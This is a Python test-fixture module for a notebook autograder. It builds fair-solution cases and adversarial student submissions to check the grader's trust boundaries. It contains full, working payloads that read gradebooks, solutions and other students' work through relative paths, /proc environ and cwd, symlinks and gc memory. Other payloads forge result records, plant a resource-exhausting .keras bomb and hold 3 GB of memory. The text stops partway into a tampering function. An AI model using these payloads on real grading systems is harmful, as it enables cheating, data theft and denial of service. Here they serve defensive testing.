"""Fairness and attack corpora for the grader, generated from the real notebooks 01..06.

Every submission starts from a released student notebook (``notebooks/NN_name``) filled with
the instructor's own solution code (``solutions/``, the solution markers removed), like
``corpus.py`` does for notebook 02, and each case says what score it must get.

* The **fairness corpus** (:func:`fairness_cases`): ordinary ways of writing a correct solution
  (computed constants, lambdas, callable instances, ``functools.partial``, aliases, globals
  computed from the model, a ``helpers.py`` handed in beside the notebook, demo code between the
  exercises, a harmless warning, a notebook saved with its outputs). Each must get full marks.
* The **attack class** (:func:`attack_class`): one student per attack, whose notebook is
  otherwise correct (its *honest* score is known), next to ordinary students with known scores.
  What an attack reads it puts into its function's exception message and prints at top level;
  the secrets it looks for are canaries planted by :func:`prepare_sources` and
  :func:`make_gradebook` (see :func:`secrets`), and the hidden tests (:func:`hidden_lines`).
* :func:`parent_class`: the readers again, for a run whose working folder holds ``solutions/``.
* :func:`failure_class`: ordinary students for a run with a broken source (:func:`break_source`).

Nothing here runs the grader; ``tests/test_grader_trust.py`` does, with the real CLI.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import textwrap
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
NOTEBOOKS = ["01_train_cnn", "02_first_layer_maps", "03_second_layer",
             "04_normalize_interpret", "05_filters_debugging", "06_beyond_feature_maps"]
N01, N02, N03, N04, N05, N06 = NOTEBOOKS
MAM, GFM, PLOT = "make_activation_model", "get_feature_maps", "plot_feature_map_grid"
TAG = "_TRUST_ATTACKER_"  # marks an attacker's own code, so that its searches skip it


@dataclass
class Case:
    """One submission and what the grader must make of it.

    Attributes:
        student: The student id (folder under ``submitted/``).
        assignment: ``NN_name``.
        description: What the submission does.
        kind: ``"fair"`` (must get full marks), ``"ordinary"`` (a known score) or ``"attack"``.
        score: The exact autograded score it must get (None for attacks: only ``<= honest``).
        honest: The score of the same notebook without the attack (= ``score`` for others).
        notebook: The notebook (a dict, or raw bytes).
        files: Files handed in beside the notebook: name -> content.
        links: Symbolic links placed beside the notebook: name -> target.
        failing: Grade ids of checks that must fail, with a message matching ``reason``.
        passing: Grade ids of checks that must pass.
        reason: A regular expression (case-insensitive) for the failing checks' messages.
    """

    student: str
    assignment: str
    description: str
    kind: str
    score: float | None
    honest: float
    notebook: dict | bytes
    files: dict = field(default_factory=dict)
    links: dict = field(default_factory=dict)
    failing: tuple = ()
    passing: tuple = ()
    reason: str = ""


# ---------------------------------------------------------------------------- the notebooks
def source_path(name: str, solutions: Path | None = None) -> Path:
    return Path(solutions or ROOT / "solutions") / name / f"{name}.ipynb"


def release_path(name: str) -> Path:
    return ROOT / "notebooks" / name / f"{name}.ipynb"


def _src(cell: dict) -> str:
    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]


def _meta(cell: dict) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _strip_markers(text: str) -> str:
    return "\n".join(l for l in text.splitlines() if "### BEGIN SOLUTION" not in l and "### END SOLUTION" not in l)


def solutions(name: str) -> dict[str, str]:
    """grade id -> the instructor's solution (code and written answers) without the markers."""
    nb = json.loads(source_path(name).read_text())
    return {_meta(c)["grade_id"]: _strip_markers(_src(c)) for c in nb["cells"] if _meta(c).get("solution")}


def release(name: str) -> dict:
    return json.loads(release_path(name).read_text())


def fill(name: str, code: dict[str, str], nb: dict | None = None) -> dict:
    """The release of ``name`` with the solution cells (by grade id) replaced by ``code``."""
    nb = copy.deepcopy(nb or release(name))
    for cell in nb["cells"]:
        gid = _meta(cell).get("grade_id")
        if _meta(cell).get("solution") and gid in code:
            cell["source"] = code[gid]
    return nb


def correct(name: str, **over: str) -> dict:
    """The release filled with every solution (code cells and written answers), ``over`` replacing some."""
    return fill(name, {**solutions(name), **over})


def tests(name: str) -> list[str]:
    """The grade ids of the autograded test cells, in notebook order."""
    nb = json.loads(source_path(name).read_text())
    return [_meta(c)["grade_id"] for c in nb["cells"] if _meta(c).get("grade") and c["cell_type"] == "code"
            and not _meta(c).get("solution")]


def points(name: str) -> dict[str, float]:
    nb = json.loads(source_path(name).read_text())
    return {_meta(c)["grade_id"]: float(_meta(c).get("points", 0)) for c in nb["cells"]
            if _meta(c).get("grade") and c["cell_type"] == "code" and not _meta(c).get("solution")}


def max_score(name: str) -> float:
    return sum(points(name).values())


def test_of(exercise: str) -> str:
    return f"{exercise}_tests"


def _cell_id(source: str) -> str:
    return "added-" + hashlib.sha1(source.encode()).hexdigest()[:12]


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": _cell_id(source), "metadata": {}, "outputs": [],
            "source": source}


def markdown_cell(source: str) -> dict:
    return {"cell_type": "markdown", "id": _cell_id(source), "metadata": {}, "source": source}


def insert_after(nb: dict, grade_id: str, *cells: dict) -> dict:
    """A copy of ``nb`` with ``cells`` right after the cell whose grade id is ``grade_id``."""
    nb = copy.deepcopy(nb)
    at = next(i for i, c in enumerate(nb["cells"]) if _meta(c).get("grade_id") == grade_id)
    nb["cells"][at + 1:at + 1] = [copy.deepcopy(c) for c in cells]
    return nb


def hidden_lines(source_notebook: Path, release_notebook: Path) -> set[str]:
    """The stripped lines longer than 25 characters of the hidden tests of a source notebook,
    without those that also occur outside the hidden tests (in the source or the release: a
    visible test, a solution or a demonstration may share a generic line)."""
    elsewhere = set()
    for cell in json.loads(Path(release_notebook).read_text())["cells"]:
        elsewhere |= {l.strip() for l in _src(cell).splitlines()}
    lines, inside = set(), False
    for cell in json.loads(Path(source_notebook).read_text())["cells"]:
        for line in _src(cell).splitlines():
            if "### BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "### END HIDDEN TESTS" in line:
                inside = False
            elif inside:
                if len(line.strip()) > 25:
                    lines.add(line.strip())
            else:
                elsewhere.add(line.strip())
    return lines - elsewhere


def rename_def(code: str, old: str, new: str) -> str:
    assert f"def {old}(" in code, old
    return code.replace(f"def {old}(", f"def {new}(", 1)


def as_alias(code: str, fname: str) -> str:
    return rename_def(code, fname, f"_{fname}_impl") + f"\n\n{fname} = _{fname}_impl\n"


def as_callable(code: str, fname: str) -> str:
    """The function as the ``__call__`` of a class, and ``fname`` an instance of it."""
    method = code.replace(f"def {fname}(", "def __call__(self, ", 1)
    return f"class _{fname.title().replace('_', '')}:\n" + textwrap.indent(method, "    ") + f"\n\n\n{fname} = _{fname.title().replace('_', '')}()\n"


def with_payload(code: str, anchor: str, payload: str) -> str:
    """``code`` with ``payload`` (function-body code, not indented) inserted before the line
    that starts with ``anchor`` (indentation included)."""
    assert anchor in code, anchor
    indent = anchor[: len(anchor) - len(anchor.lstrip())]
    return code.replace(anchor, textwrap.indent(textwrap.dedent(payload).strip(), indent) + "\n" + anchor, 1)


# a 1x1 PNG, for the outputs of a notebook saved after running
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def with_saved_outputs(nb: dict) -> dict:
    """The notebook as saved after *Run All*: execution counts and outputs in every code cell."""
    nb = copy.deepcopy(nb)
    count = 0
    for cell in nb["cells"]:
        if cell["cell_type"] != "code":
            continue
        count += 1
        cell["execution_count"] = count
        gid, text = _meta(cell).get("grade_id", ""), _src(cell)
        outputs = []
        if count == 1:
            outputs.append({"output_type": "stream", "name": "stderr",
                            "text": "I0000 00:00:1.0   1 port.cc:153] oneDNN custom operations are on.\n"})
        if gid.endswith("_tests"):
            outputs.append({"output_type": "stream", "name": "stdout",
                            "text": f"{gid.removesuffix('_tests')}: the visible checks pass\n"})
        elif "print(" in text:
            outputs.append({"output_type": "stream", "name": "stdout", "text": "(printed output)\n"})
        if text.rstrip().endswith(("fig", ")")) and not gid:
            outputs.append({"output_type": "execute_result", "execution_count": count, "metadata": {},
                            "data": {"image/png": PNG, "text/plain": "<Figure size 640x480 with 1 Axes>"}})
        cell["outputs"] = outputs
        cell.setdefault("metadata", {})["execution"] = {"iopub.execute_input": "2026-11-30T10:00:00.000Z",
                                                        "shell.execute_reply": "2026-11-30T10:00:01.000Z"}
    nb["metadata"]["language_info"] = {"codemirror_mode": {"name": "ipython", "version": 3},
                                       "file_extension": ".py", "mimetype": "text/x-python", "name": "python",
                                       "nbconvert_exporter": "python", "pygments_lexer": "ipython3",
                                       "version": "3.12.3"}
    return nb


# ---------------------------------------------------------------------------- fairness
def fairness_cases() -> list[Case]:
    """Correct solutions in ordinary styles: each must get full autograded marks.

    Styles are combined (one style per function, so a failing check names the style) to keep
    the run short: notebook 02 has every style, 01, 04 and 05 those that fit their exercises.
    """
    out = []

    def fair(student, name, description, nb, files=None):
        out.append(Case(student, name, description, "fair", max_score(name), max_score(name), nb, files or {}))

    s = solutions(N02)
    fair("f02_lambda_constant_alias", N02,
         "make_activation_model is a lambda; get_feature_maps uses computed constants SCALE = 1 / 255.0 and "
         "DTYPE = np.float32; plot_feature_map_grid is an alias of a def",
         correct(N02, **{
             MAM: "make_activation_model = lambda model, layer_name: keras.Model(\n"
                  "    inputs=model.inputs[0], outputs=model.get_layer(layer_name).output, name=f\"{layer_name}_maps\"\n)\n",
             GFM: "SCALE = 1 / 255.0\nDTYPE = np.float32\n\n\n" + s[GFM].replace(
                 "batch = np.asarray(image, dtype=np.float32)[np.newaxis]",
                 "batch = np.asarray(image, dtype=DTYPE)[np.newaxis] * (SCALE * 255.0)"),
             PLOT: as_alias(s[PLOT], PLOT)}))
    fair("f02_partial_callable", N02,
         "make_activation_model is a functools.partial of a more general function; get_feature_maps an "
         "instance of a class with __call__",
         correct(N02, **{
             MAM: textwrap.dedent("""\
                 import functools


                 def model_for(model, layer_name, *, suffix):
                     layer = model.get_layer(layer_name)
                     return keras.Model(inputs=model.inputs[0], outputs=layer.output, name=f"{layer_name}{suffix}")


                 make_activation_model = functools.partial(model_for, suffix="_maps")
                 """),
             GFM: as_callable(s[GFM], GFM)}))
    fair("f02_global_helpers", N02,
         "get_feature_maps checks the name against LAYER_NAMES, computed from the model at top level, and "
         "uses a helpers.py handed in beside the notebook",
         correct(N02, **{GFM: textwrap.dedent("""\
             from helpers import as_batch, without_batch_axis

             LAYER_NAMES = [layer.name for layer in model.layers if layer.name.startswith(("conv", "pool"))]


             def get_feature_maps(model, image, layer_name):
                 \"\"\"One image's feature maps at one layer.\"\"\"
                 if layer_name not in LAYER_NAMES:
                     raise ValueError(f"{layer_name!r} is not one of {LAYER_NAMES}")
                 sub_model = make_activation_model(model, layer_name)
                 return without_batch_axis(sub_model(as_batch(image), training=False))
             """)}),
         {"helpers.py": textwrap.dedent('''\
             """My helpers for notebook 02."""
             import numpy as np


             def as_batch(image):
                 """One image as a batch of one, float32."""
                 return np.asarray(image, dtype=np.float32)[np.newaxis]


             def without_batch_axis(maps):
                 """The maps of the only image of a batch, as numpy."""
                 return np.asarray(maps)[0]
             ''').encode()})
    demo = correct(N02, **{GFM: "import warnings\n\n\n" + with_payload(
        s[GFM], "    sub_model =", 'warnings.warn("computing the maps of one image", UserWarning)')})
    demo = insert_after(demo, test_of(MAM), code_cell(
        'demo_model = make_activation_model(model, "conv2")\nprint("conv2 sub-model:", demo_model.output.shape)'))
    demo = insert_after(demo, test_of(GFM), code_cell(
        'demo_maps = get_feature_maps(model, x_test[5], "conv1")\n'
        'print("maps of test image 5:", demo_maps.shape, "max", float(demo_maps.max()))\n'
        'for k in range(3):\n    print(f"map {k}: mean {demo_maps[:, :, k].mean():.3f}")'))
    demo = insert_after(demo, test_of(PLOT), code_cell(
        'demo_fig = plot_feature_map_grid(demo_maps[:, :, :6], ncols=3)\nprint(len(demo_fig.axes), "panels")\ndemo_fig'))
    fair("f02_demo_outputs_warning", N02,
         "top-level demo code and prints between the exercises; get_feature_maps emits a harmless UserWarning; "
         "saved after running, outputs and execution counts included", with_saved_outputs(demo))

    s = solutions(N01)
    fair("f01_constant_alias", N01,
         "prepare_images uses computed constants SCALE = 1 / 255.0 and DTYPE = np.float32; build_cnn is an alias",
         correct(N01, prepare_images=textwrap.dedent('''\
             SCALE = 1 / 255.0
             DTYPE = np.float32


             def prepare_images(images):
                 """Scale uint8 MNIST images to float32 in [0, 1] and add the channel axis."""
                 return (np.asarray(images, dtype=DTYPE) * SCALE)[..., np.newaxis]
             '''), build_cnn=as_alias(s["build_cnn"], "build_cnn")))

    s = solutions(N04)
    demo = correct(N04, normalize_map=with_payload(s["normalize_map"], "    return (m - low) / (high - low)",
                                                   'warnings.warn("normalize_map: rescaling a map", UserWarning)'),
                   normalize_maps=as_callable(s["normalize_maps"], "normalize_maps"),
                   to_uint8=textwrap.dedent('''\
                       LEVELS = 2 ** 8 - 1


                       def to_uint8(x):
                           """Values in [0, 1] as uint8 0..255: clipped, then rounded."""
                           return np.round(np.clip(np.asarray(x, dtype=np.float32), 0.0, 1.0) * LEVELS).astype(np.uint8)
                       '''))
    demo = insert_after(demo, test_of("normalize_map"), code_cell(
        'scaled = normalize_map(conv1[:, :, 0])\nprint("conv1 map 0 scaled:", scaled.min(), scaled.max())'))
    demo = insert_after(demo, test_of("normalize_maps"), code_cell(
        'both = normalize_maps(conv2, "global")\nprint("global scale:", both.shape, float(both.max()))'))
    fair("f04_warning_callable_constant_demo", N04,
         "normalize_map warns (UserWarning) when it rescales a non-constant map; normalize_maps is a callable "
         "instance; to_uint8 uses a computed constant LEVELS = 2 ** 8 - 1; demo code between the exercises", demo)

    s = solutions(N05)
    fair("f05_global_alias_helpers_lambda", N05,
         "get_filters uses CONV_LAYERS, computed from the model at top level; plot_filters is an alias; "
         "find_dead_filters uses a helpers.py handed in beside the notebook; strongest_filters is a lambda",
         correct(N05, get_filters=textwrap.dedent('''\
             CONV_LAYERS = {layer.name: layer for layer in model.layers if isinstance(layer, keras.layers.Conv2D)}


             def get_filters(model, layer_name):
                 """A conv layer's kernel."""
                 kernel, _bias = CONV_LAYERS[layer_name].get_weights()
                 return np.asarray(kernel)
             '''), plot_filters=as_alias(s["plot_filters"], "plot_filters"),
             find_dead_filters=textwrap.dedent('''\
             from helpers import channel_peaks


             def find_dead_filters(maps, threshold=0.0):
                 """Channels that never exceed threshold, over every image and position."""
                 return np.flatnonzero(channel_peaks(maps) <= threshold)
             '''),
             strongest_filters='strongest_filters = lambda maps, k=5: np.argsort(-np.asarray(maps).mean(axis=(0, 1)), kind="stable")[:k]\n'),
         {"helpers.py": b'import numpy as np\n\n\ndef channel_peaks(maps):\n    return np.asarray(maps).max(axis=(0, 1, 2))\n'})
    return out


# ---------------------------------------------------------------------------- secrets
@dataclass
class Env:
    """Where a class run happens, for the absolute paths and ports written into the attacks.

    Attributes:
        course: The course directory (``--course-dir``).
        source: The sources (``--source``), a copy of ``solutions/`` with canaries.
        port: A loopback TCP port the test listens on.
        token: A random hex string that makes the canaries unique to the run.
    """

    course: Path
    source: Path
    port: int
    token: str


def secrets(token: str) -> dict[str, str]:
    """The canaries of a run: what no result, problem, feedback or export may contain."""
    return {kind: f"trust-canary-{kind}-{token}" for kind in ("hidden", "notes", "gradebook", "victim", "environ")}


def prepare_sources(dest: Path, token: str) -> Path:
    """``dest``: a copy of ``solutions/`` with canaries: a comment line in a hidden test of
    notebook 02 and an instructor's notes file. Returns ``dest``."""
    shutil.copytree(ROOT / "solutions", dest, ignore=shutil.ignore_patterns(".ipynb_checkpoints", "__pycache__"))
    canary = secrets(token)
    path = source_path(N02, dest)
    nb = json.loads(path.read_text())
    for cell in nb["cells"]:
        if _meta(cell).get("grade_id") == test_of(GFM):
            text = _src(cell)
            assert "### BEGIN HIDDEN TESTS\n" in text
            cell["source"] = text.replace("### BEGIN HIDDEN TESTS\n",
                                          f"### BEGIN HIDDEN TESTS\n# instructor only: {canary['hidden']} (these inputs are secret)\n", 1)
    path.write_text(json.dumps(nb, indent=1))
    (dest / "INSTRUCTOR_NOTES.txt").write_text(f"Answers and marking notes, instructors only: {canary['notes']}\n")
    return dest


def break_source(solutions_dir: Path, name: str, flag: Path) -> None:
    """Make the first code cell of a source notebook raise while ``flag`` exists (the
    instructor's set-up is broken: a grader failure, never a student's zero)."""
    path = source_path(name, solutions_dir)
    nb = json.loads(path.read_text())
    cell = next(c for c in nb["cells"] if c["cell_type"] == "code")
    cell["source"] = _src(cell) + (f"\nif os.path.exists({str(flag)!r}):\n"
                                   "    raise RuntimeError('the instructor set-up is broken (trust test)')\n")
    path.write_text(json.dumps(nb, indent=1))


def make_gradebook(course: Path, token: str) -> None:
    """A real nbgrader gradebook in ``course`` holding a canary (a student's name)."""
    code = ("import sys\nfrom nbgrader.api import Gradebook\n"
            "with Gradebook('sqlite:///' + sys.argv[1]) as gb:\n"
            "    gb.update_or_create_student('zz_registered', first_name=sys.argv[2], last_name=sys.argv[2])\n")
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    course.mkdir(parents=True, exist_ok=True)
    subprocess.run([sys.executable, "-c", code, str(course / "gradebook.db"), secrets(token)["gradebook"]],
                   check=True, env=env, capture_output=True, timeout=300)


# ---------------------------------------------------------------------------- attack code
LOOT = r'''
# _TRUST_ATTACKER_ helpers: read what should be unreadable, report it
import os, re, sys
_SUFFIXES = (".ipynb", ".db", ".txt", ".json", ".jsonl", ".csv", ".py", ".html", ".log")
_SKIP_DIRS = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "boot", "run", "var",
              "__pycache__", ".git", "site-packages", ".venv", "node_modules", "models", "datasets"}


def _grab(path, limit=400_000):
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
    except (OSError, ValueError):
        return None
    return "".join(c if 32 <= ord(c) < 127 or c == "\n" else " " for c in data.decode("latin-1"))


def _walk(top, depth, found, budget=400):
    try:
        entries = sorted(os.scandir(top), key=lambda e: e.name)
    except (OSError, ValueError):
        return
    for entry in entries:
        if len(found) >= budget:
            return
        path = os.path.join(top, entry.name)
        try:
            if entry.is_dir():
                if depth > 0 and entry.name not in _SKIP_DIRS:
                    _walk(path, depth - 1, found, budget)
            elif entry.name.endswith(_SUFFIXES) and path not in found:
                text = _grab(path)
                if text and "_TRUST_ATTACKER_" not in text:
                    found[path] = text
        except OSError:
            pass


def _report(found):
    """A short summary for an exception message (the grader may shorten it): secret-looking
    tokens first, random-looking ones before the others."""
    tokens, parts = [], []
    for path, text in found.items():
        for token in re.findall(r"[a-z]+(?:-[a-z0-9]+){2,}", text):
            if len(token) >= 20 and token not in tokens:
                tokens.append(token)
        at = text.find("BEGIN HIDDEN")
        parts.append(f"{path}: " + (text[at:at + 800] if at >= 0 else text[:200]))
    tokens.sort(key=lambda token: re.search(r"[0-9a-f]{12}", token) is None)  # random-looking ones first
    return "LOOT " + " ".join(tokens[:60]) + " || " + " | ".join(parts)[:6000]


def _print_all(found):
    for path, text in found.items():
        print("=====", path)
        print(text[:150_000])
'''

REL_NAMES = ["gradebook.db", "grades.csv", "INSTRUCTOR_NOTES.txt", "solutions/INSTRUCTOR_NOTES.txt",
             "src/solutions/INSTRUCTOR_NOTES.txt", "classroom/gradebook.db"]


def _rel_names() -> list[str]:
    names = list(REL_NAMES)
    for n in NOTEBOOKS:
        names += [f"solutions/{n}/{n}.ipynb", f"src/solutions/{n}/{n}.ipynb", f"{n}/{n}.ipynb"]
    names += [f"submitted/o_victim/{N02}/{N02}.ipynb", f"submitted/o_victim/{N02}/notes.txt",
              f"classroom/submitted/o_victim/{N02}/{N02}.ipynb", f"classroom/submitted/o_victim/{N02}/notes.txt"]
    return names


def _absolute(env: Env) -> list[str]:
    paths = [env.course / "gradebook.db", env.course / "submitted" / "o_victim" / N02 / f"{N02}.ipynb",
             env.course / "submitted" / "o_victim" / N02 / "notes.txt", env.source / "INSTRUCTOR_NOTES.txt",
             ROOT / "solutions" / N02 / f"{N02}.ipynb"]
    paths += [source_path(n, env.source) for n in NOTEBOOKS]
    return [str(p) for p in paths]


def read_relative_code(env: Env) -> str:
    """Reads through relative paths from the working folder (and absolute ones)."""
    return f'''

def _steal_relative():
    found = {{}}
    for k in range(9):
        base = "/".join([".."] * k) or "."
        for name in {_rel_names()!r}:
            text = _grab(os.path.join(base, name))
            if text:
                found[os.path.join(base, name)] = text
        for sub in ("solutions", "submitted", "src", "course", "grading", "autograded", "feedback"):
            _walk(os.path.join(base, sub), 3, found)
    for path in {_absolute(env)!r}:
        text = _grab(path)
        if text:
            found[path] = text
    try:
        import course as _course_package
        from pathlib import Path as _P
        _walk(str(_P(_course_package.__file__).resolve().parents[1] / "solutions"), 2, found)
    except Exception:
        pass
    return found
'''


def read_proc_code(env: Env) -> str:
    """Reads through /proc: the parent's (and every visible process') cwd, environ, cmdline."""
    return '''

def _steal_proc():
    found = {"os.environ": "\\n".join(f"{k}={v}" for k, v in os.environ.items())}
    pids = [os.getppid(), 1]
    try:
        pids += sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:300]
    except OSError:
        pass
    for pid in dict.fromkeys(pids):
        if pid <= 0 or pid == os.getpid():
            continue
        text = _grab(f"/proc/{pid}/environ")
        if text:
            found[f"/proc/{pid}/environ"] = text
        try:
            cmdline = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
        except OSError:
            cmdline = []
        for arg in cmdline:
            if arg.startswith("/") and os.path.exists(arg) and not arg.startswith(("/usr", "/bin", "/proc")):
                if os.path.isdir(arg):
                    _walk(arg, 3, found)
                else:
                    text = _grab(arg)
                    if text:
                        found[arg] = text
        _walk(f"/proc/{pid}/cwd", 3, found)
        try:
            _walk(os.readlink(f"/proc/{pid}/cwd"), 3, found)
        except OSError:
            pass
    return found
'''


LINK_NAMES = ("notes.txt", "instructor.py", "friend.txt", "gradebook.txt", "srcdir")


def read_symlink_code(env: Env) -> str:
    """Reads the symbolic links handed in beside the notebook, wherever they end up."""
    return f'''

def _steal_links():
    found = {{}}
    places = [os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")]
    places += [p for p in sys.path if p and "site-packages" not in p and not p.endswith(".zip")]
    for place in dict.fromkeys(p for p in places if p):
        for name in {LINK_NAMES!r}:
            path = os.path.join(place, name)
            if os.path.isdir(path):
                _walk(path, 3, found)
            else:
                text = _grab(path)
                if text:
                    found[path] = text
    return found
'''


def links(env: Env) -> dict:
    victim = env.course / "submitted" / "o_victim" / N02
    return {"notes.txt": source_path(N02, env.source), "instructor.py": env.source / "INSTRUCTOR_NOTES.txt",
            "friend.txt": victim / f"{N02}.ipynb", "gradebook.txt": env.course / "gradebook.db",
            "srcdir": env.source}


def steal_code(env: Env) -> str:
    """``_steal()``: everything readable by every route (relative and absolute paths, /proc,
    the links beside the notebook)."""
    return "\n\n".join([LOOT, read_relative_code(env), read_proc_code(env), read_symlink_code(env)]) + """

def _steal():
    return {**_steal_relative(), **_steal_proc(), **_steal_links()}
"""


def reader(env: Env) -> Case:
    """A correct notebook whose get_feature_maps raises with whatever ``_steal()`` and
    ``_search()`` found, and a top-level cell that prints it all (prints end up in the
    autograded notebook)."""
    s = solutions(N02)
    gfm = steal_code(env) + "\n\n" + GC_CODE + "\n\n" + with_payload(s[GFM], "    sub_model =", """
        _found, _hits = _steal(), _search()
        if _found or _hits:
            raise ValueError(_report(_found) + " FOUND " + " ||| ".join(_hits)[:4000])
        """)
    nb = correct(N02, **{GFM: gfm})
    nb = insert_after(nb, GFM, code_cell(f"# {TAG}\n_print_all(_steal())\nprint(_search())"))
    return Case("atk_read_all", N02, "reads the gradebook, other submissions, the sources and the grader's "
                "environment by relative and absolute paths, /proc/<ppid>/cwd, environ and cmdline, symbolic "
                "links handed in beside the notebook; searches gc.get_objects() and the frames for the hidden "
                "tests; raises with what it found", "attack", None, max_score(N02), nb, links=links(env))


GC_CODE = r'''
# _TRUST_ATTACKER_: search the process's memory for the test code
import gc, linecache, sys

_MARKERS = ("BEGIN HIDDEN", "END HIDDEN", "x_test[index]", "for index, name, shape in", '(7, "conv2", (11, 11, 64))')


def _search():
    found, seen = [], set()

    def look(value):
        if isinstance(value, bytes):
            value = value.decode("latin-1")
        if isinstance(value, str) and len(value) > 20 and "_TRUST_ATTACKER_" not in value and value not in _MARKERS:
            for marker in _MARKERS:
                at = value.find(marker)
                if at >= 0 and id(value) not in seen:
                    seen.add(id(value))
                    found.append(value[max(0, at - 200):at + 800])

    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):
                for key, value in list(obj.items())[:2000]:
                    look(key)
                    look(value)
            elif isinstance(obj, (list, tuple)):
                for value in obj[:2000]:
                    look(value)
            elif hasattr(obj, "__code__"):
                for value in obj.__code__.co_consts:
                    look(value)
        except Exception:
            pass
        if len(found) > 20:
            break
    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for value in list(space.values()):
                look(value)
        for value in frame.f_code.co_consts:
            look(value)
        frame = frame.f_back
    for entry in list(linecache.cache.values()):
        try:
            look("".join(entry[2]))
        except Exception:
            pass
    main = sys.modules.get("__main__")
    for name in ("In", "_ih", "Out", "_oh"):
        for value in list(getattr(main, name, None) or []):
            look(value)
    return found
'''


def _loop_payload() -> str:
    return "while True:\n    pass"


def forged_records_code() -> str:
    return r'''
# _TRUST_ATTACKER_: forged records to every writable file and fd, then an endless loop
import json, os


def _forge():
    keys = ["test:get_feature_maps_tests", "get_feature_maps_tests", "test:3", "student:1", "cell:14", "14", "13"]
    events = []
    for key in keys:
        events += [{"event": "start", "key": key}, {"event": "call", "key": key, "name": "get_feature_maps",
                   "value": {"t": "none"}}, {"event": "end", "key": key}]
    events += [{"event": "done"}, {"cell": 14, "status": "ok", "ended": True}, {"type": "cell_end", "index": 14, "ok": True},
               {"kind": "end", "cell": 14, "ok": True}, {"id": 1, "ok": True, "status": "done"}]
    payload = ("\n".join(json.dumps(e) for e in events) + "\n").encode()
    here = os.getcwd()
    tops = [here]
    parent = os.path.dirname(here)
    if parent not in ("/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home"):
        tops.append(parent)
    for top in tops:
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.count(os.sep) - top.count(os.sep) >= 3:
                dirnames[:] = []
            for name in filenames:
                if name.endswith((".jsonl", ".json")) or name.startswith(("records", "events", "status")):
                    try:
                        with open(os.path.join(dirpath, name), "ab") as f:
                            f.write(payload)
                    except OSError:
                        pass
    for fd in range(3, 21):
        try:
            os.write(fd, payload)
        except OSError:
            pass
    try:
        for name in os.listdir("/proc/self/fd"):
            target = os.readlink(f"/proc/self/fd/{name}")
            if target.startswith("/") and target.endswith((".jsonl", ".json", ".log")):
                with open(target, "ab") as f:
                    f.write(payload)
    except OSError:
        pass
'''


def keras_bomb() -> bytes:
    """A tiny ``.keras`` zip whose config declares a Dense layer of 10**9 units on 10,000 inputs."""
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "bomb", "trainable": True, "dtype": "float32", "layers": [
                  {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                   "config": {"batch_shape": [None, 10000], "dtype": "float32", "sparse": False, "name": "in"}},
                  {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
                   "config": {"name": "huge", "trainable": True, "dtype": "float32", "units": 10 ** 9,
                              "activation": "linear", "use_bias": True,
                              "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                                     "config": {"seed": None}, "registered_name": None},
                              "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros",
                                                   "config": {}, "registered_name": None}},
                   "build_config": {"input_shape": [None, 10000]}}]},
              "build_config": {"input_shape": [None, 10000]}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-12-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"")
    return buf.getvalue()


def keras_bomb_code() -> str:
    blob = base64.b64encode(keras_bomb()).decode()
    return f'''
# {TAG}: forged .keras files wherever blobs may go, for as long as the grading lasts
import base64, os, threading, time

_BOMB = base64.b64decode({blob!r})


def _plant():
    here = os.getcwd()
    for dirpath, dirnames, filenames in os.walk(here):
        if dirpath.count(os.sep) - here.count(os.sep) >= 3:
            dirnames[:] = []
        targets = [n for n in filenames if n.endswith((".keras", ".h5", ".npy", ".zip"))]
        if os.path.basename(dirpath) in ("blobs", "blob", "values", "out", "outputs") or dirpath == here:
            targets += [f"{{i}}_{{j}}.keras" for i in range(8) for j in range(4)] + ["model.keras", "value.keras"]
        for name in targets:
            try:
                with open(os.path.join(dirpath, name), "wb") as f:
                    f.write(_BOMB)
            except OSError:
                pass
    for d in ("blobs", "values"):
        try:
            os.makedirs(os.path.join(here, d), exist_ok=True)
            for i in range(8):
                with open(os.path.join(here, d, f"{{i}}_0.keras"), "wb") as f:
                    f.write(_BOMB)
        except OSError:
            pass


def _keep_planting():
    end = time.monotonic() + 120
    while time.monotonic() < end:
        _plant()
        time.sleep(0.05)


threading.Thread(target=_keep_planting, daemon=True).start()
'''


def memfd_code(token: str, piece_mb: int) -> str:
    return f'''
# {TAG}: 3 GB held in memory files of {piece_mb} MB each (memfd, or /dev/shm if memfd is missing)
import os

_HELD = []


def _hold(total=3 * 2**30, piece={piece_mb} * 2**20):
    chunk = b"\\x01" * (4 * 2**20)
    for i in range(-(-total // piece)):
        try:
            fd = os.memfd_create(f"hold{{i}}")
        except (AttributeError, OSError):
            fd = os.open(f"/dev/shm/trust-{token}-{{i}}", os.O_RDWR | os.O_CREAT, 0o600)
        os.ftruncate(fd, piece)
        for _ in range(piece // len(chunk)):
            os.write(fd, chunk)
        _HELD.append(fd)
'''


def metadata_code(targets: list[str]) -> str:
    return f'''
# {TAG}: change other students' and the instructor's files
import os


def _tamper():
